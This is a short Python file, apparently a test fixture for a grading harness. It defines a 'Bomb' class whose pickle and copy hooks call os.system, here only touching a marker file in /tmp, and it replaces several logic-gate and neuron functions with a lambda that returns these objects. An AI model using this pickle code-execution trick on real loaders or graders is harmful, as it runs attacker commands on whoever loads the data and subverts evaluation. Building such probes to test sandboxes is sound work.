#: says = "Objects whose reduction, copy or representation would run code in whoever loads them."
#: at_most = 0.0
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-was-here",)

    def __reduce_ex__(self, protocol):
        return os.system, ("touch /tmp/hostile-was-here",)

    __deepcopy__ = __copy__ = __getnewargs_ex__ = __reduce__

    def __repr__(self):
        return pickle.dumps(self).decode("latin-1")


truth_table = mp_neuron = gate = literal_clause = xor_network = is_representable = lambda *a, **k: [Bomb(), pickle.dumps(Bomb())]
